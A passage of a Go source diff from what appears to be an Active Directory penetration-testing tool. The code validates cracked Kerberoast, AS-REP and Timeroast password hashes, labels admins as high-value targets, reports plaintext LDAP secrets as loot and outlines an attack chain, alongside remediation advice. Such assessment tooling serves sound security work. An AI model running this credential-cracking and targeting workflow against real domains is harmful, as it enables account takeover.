+			log.Printf("[x] Mode %d crack: %v", mode, err)
+			continue
+		}
+		for hash, password := range cracked {
+			pot = append(pot, hash+":"+password)
 		}
 	}
+	applyCrackedPasswords(candidates, pot)
 }
 
-func runRealKerberos(client *krb.LDAPClient, domain string, candidates []krb.Candidate) []krb.Candidate {
-	log.Printf("[*] Running real Kerberos interactions (extract hashes to candidates)...")
-	if domain == "" {
-		return candidates
-	}
+// applyCrackedPasswords matches hash:password pot lines to the candidates'
+// hashes and keeps a password only once it decrypts the captured hash. A
+// line is matched by prefix because AS-REP hashes themselves contain ':'.
+func applyCrackedPasswords(candidates []krb.Candidate, pot []string) {
+	var validated, rejected int
 	for i := range candidates {
-		switch candidates[i].Type {
-		case "ASREP":
-			hr, err := client.ExtractASREPHash(candidates[i].SamAccountName, domain)
-			if err != nil {
-				log.Printf("[!] AS-REP %s: %v", candidates[i].SamAccountName, err)
+		c := &candidates[i]
+		for _, r := range c.Hashes {
+			if !r.OK() || c.Password != "" {
 				continue
 			}
-			candidates[i].Hash = hr.Hash
-		case "KERBEROAST":
-			for _, spn := range candidates[i].SPNs {
-				hr, err := client.ExtractKerberoastHash(candidates[i].SamAccountName, domain, spn)
-				if err != nil {
-					log.Printf("[!] Kerberoast %s: %v", candidates[i].SamAccountName, err)
+			for _, line := range pot {
+				password, ok := strings.CutPrefix(line, r.Hash+":")
+				if !ok {
 					continue
 				}
-				candidates[i].Hash = hr.Hash
+				switch ok, err := krb.VerifyCandidatePassword(c, password); {
+				case ok:
+					validated++
+					log.Printf("[+] %s: cracked password verified against the captured hash", c.SamAccountName)
+				case err != nil:
+					rejected++
+					log.Printf("[!] %s: cracked password not verified: %v", c.SamAccountName, err)
+				default:
+					rejected++
+					log.Printf("[!] %s: cracker reported a password that does not decrypt the hash", c.SamAccountName)
+				}
 				break
 			}
 		}
-		time.Sleep(120 * time.Millisecond)
+	}
+	if validated+rejected > 0 {
+		log.Printf("[*] Cracked passwords: %d verified offline, %d rejected", validated, rejected)
+	}
+}
+
+// timeroastCandidates reports the computer accounts whose MS-SNTP hash
+// opened with the pre-created default password or a cracked one.
+func timeroastCandidates(hashes []krb.TimeroastHash, domain string) []krb.Candidate {
+	var candidates []krb.Candidate
+	for _, h := range hashes {
+		if h.Password == "" {
+			continue
+		}
+		reason := fmt.Sprintf("Pre-created computer password: %s", h.Password)
+		evidence := "MS-SNTP response MAC verified offline against the default password"
+		remediation := "Change the computer password or reset the account before it is joined"
+		if !h.PreCreated {
+			reason = fmt.Sprintf("Computer password cracked from its MS-SNTP hash: %s", h.Password)
+			evidence = "MS-SNTP response MAC verified offline against the cracked password"
+			remediation = "Reset the computer account password and find out who set a guessable one"
+		}
+		c := krb.Candidate{
+			SamAccountName: h.Account,
+			Type:           "LOOT",
+			Domain:         domain,
+			Score:          90,
+			Reasons:        []string{reason},
+		}
+		krb.SetCandidateValidation(&c, krb.StatusValidated, []string{evidence}, nil, []string{remediation})
+		candidates = append(candidates, c)
 	}
 	return candidates
 }
@@ -636,7 +1004,7 @@ func generateRiskInsights(users []ingest.User, advResults map[string]interface{}
 	// Check for High Value Targets (Admins)
 	for _, u := range users {
 		isAdmin := false
-		for _, g := range u.MemberOf {
+		for _, g := range u.EffectiveGroupDNs() {
 			lowerG := strings.ToLower(g)
 			if strings.Contains(lowerG, "domain admins") || strings.Contains(lowerG, "enterprise admins") || strings.Contains(lowerG, "administrators") {
 				isAdmin = true
@@ -649,8 +1017,9 @@ func generateRiskInsights(users []ingest.User, advResults map[string]interface{}
 			candidates = append(candidates, krb.Candidate{
 				SamAccountName: u.SamAccountName,
 				Type:           "HVT",
+				Domain:         ingest.DomainFromDN(u.DistinguishedName),
 				Score:          90,
-				Reasons:        []string{"High Value Target: Domain/Enterprise Admin"},
+				Reasons:        append([]string{"High Value Target: Domain/Enterprise Admin"}, krb.IndirectAdminEvidence(u)...),
 			})
 		}
 
@@ -673,6 +1042,7 @@ func generateRiskInsights(users []ingest.User, advResults map[string]interface{}
 					candidates = append(candidates, krb.Candidate{
 						SamAccountName: u.SamAccountName,
 						Type:           "LOOT",
+						Domain:         ingest.DomainFromDN(u.DistinguishedName),
 						Score:          100,
 						Reasons:        []string{fmt.Sprintf("Plaintext secret found in LDAP %s: %s", attrName, attrValue)},
 					})
@@ -732,6 +1102,54 @@ func generateRiskInsights(users []ingest.User, advResults map[string]interface{}
 		}
 	}
 
+	if report, ok := advResults["deleted_objects"].(*advanced.TombstoneReport); ok {
+		for _, obj := range report.DeletedObjects {
+			if !obj.Restorable || !obj.Privileged {
+				continue
+			}
+			name := obj.SamAccountName
+			if name == "" {
+				name = obj.Name
+			}
+			insights = append(insights, fmt.Sprintf("[HIGH] Restorable deleted privileged account: %s (last in %s)", name, obj.LastKnownParent))
+			candidates = append(candidates, krb.Candidate{
+				SamAccountName: name,
+				Type:           "HVT",
+				Domain:         ingest.DomainFromDN(obj.LastKnownParent),
+				Score:          75,
+				Reasons:        append([]string{"Deleted privileged account restorable from the AD Recycle Bin"}, obj.Notes...),
+			})
+		}
+		for _, ref := range report.StaleACEReferences {
+			who := ref.SID
+			if ref.DeletedObject != "" {
+				who = fmt.Sprintf("%s (deleted %s)", ref.SID, ref.DeletedObject)
+			}
+			insights = append(insights, fmt.Sprintf("[MEDIUM] Stale SID %s still holds %s on %s", who, ref.Right, ref.TargetDN))
+		}
+	}
+
+	if report, ok := advResults["etype_posture"].(*advanced.EtypeReport); ok {
+		for _, name := range report.RC4OnlyServiceAccounts {
+			insights = append(insights, fmt.Sprintf("[HIGH] Kerberoastable service account %s is RC4-only: its ticket cracks at NT-hash speed", name))
+		}
+		if report.KrbtgtPosture == krb.EtypeRC4Only {
+			insights = append(insights, "[MEDIUM] krbtgt has no AES keys: its password predates AES, so TGTs are RC4 (reset it twice)")
+		}
+	}
+
+	if report, ok := advResults["ldap_config"].(map[string]interface{}); ok {
+		vulnerable, _ := report["vulnerable_checks"].([]*advanced.LDAPConfigResult)
+		for _, check := range vulnerable {
+			if check.Validation != krb.StatusValidated {
+				continue
+			}
+			for _, finding := range check.Findings {
+				insights = append(insights, fmt.Sprintf("[%s] %s (validated by bind)", strings.ToUpper(check.RiskLevel), finding))
+			}
+		}
+	}
+
 	// ── strategic roadmap ──────────────────────────────────────────────
 	if len(insights) > 0 {
 		insights = append(insights, "--- Tactical Attack Chain ---")
@@ -765,36 +1183,30 @@ func generateRiskInsights(users []ingest.User, advResults map[string]interface{}
 	return insights, candidates
 }
 
-func runProtocolDiscovery(target string) []string {
+func runProtocolDiscovery(target string) []discovery.Service {
 	log.Printf("[*] Discovering active services on %s...", target)
 
-	ports := map[int]string{
-		88:   "Kerberos",
-		135:  "RPC",
-		389:  "LDAP",
-		445:  "SMB",
-		464:  "kpasswd",
-		636:  "LDAPS",
-		3268: "GC",
-		3269: "GC_SSL",
-		3389: "RDP",
-		5985: "WinRM",
-		5986: "WinRM_SSL",
-		9389: "ADWS",
+	services := discovery.Discover(target, discovery.Options{})
+	if len(services) == 0 {
+		return nil
 	}
-
-	var hits []string
-	for port, name := range ports {
-		address := net.JoinHostPort(target, fmt.Sprintf("%d", port))
-		conn, err := net.DialTimeout("tcp", address, 1*time.Second)
-		if err == nil {
-			hits = append(hits, fmt.Sprintf("%s:%d", name, port))
-			conn.Close()
+	log.Printf("%s[+] Services detected: %s%s", util.Green, strings.Join(discovery.Names(services), " | "), util.Reset)
+	for _, svc := range services {
+		if svc.SMB != nil && !svc.SMB.SigningRequired {
+			log.Printf("%s[!] %s: signing not required (dialects %s)%s", util.Yellow, svc, strings.Join(svc.SMB.Dialects, ", "), util.Reset)
+		}
+		if svc.RDP != nil && !svc.RDP.NLARequired {
+			log.Printf("%s[!] %s: NLA not required%s", util.Yellow, svc, util.Reset)
+		}
+		if svc.TLS != nil && svc.TLS.Expired {
+			log.Printf("%s[!] %s: certificate for %s expired %s%s", util.Yellow, svc, svc.TLS.Subject, svc.TLS.NotAfter.Format("2006-01-02"), util.Reset)
+		}
+		if svc.SMB != nil && svc.SMB.SMB1 {
+			log.Printf("%s[!] %s: SMBv1 is enabled%s", util.Yellow, svc, util.Reset)
+		}
+		if svc.HTTP != nil && len(svc.HTTP.AuthSchemes) > 0 {
+			log.Printf("[*] %s offers %s", svc, strings.Join(svc.HTTP.AuthSchemes, ", "))
 		}
 	}
-
-	if len(hits) > 0 {
-		log.Printf("%s[+] Services detected: %s%s", util.Green, strings.Join(hits, " | "), util.Reset)
-	}
-	return hits
+	return services
 }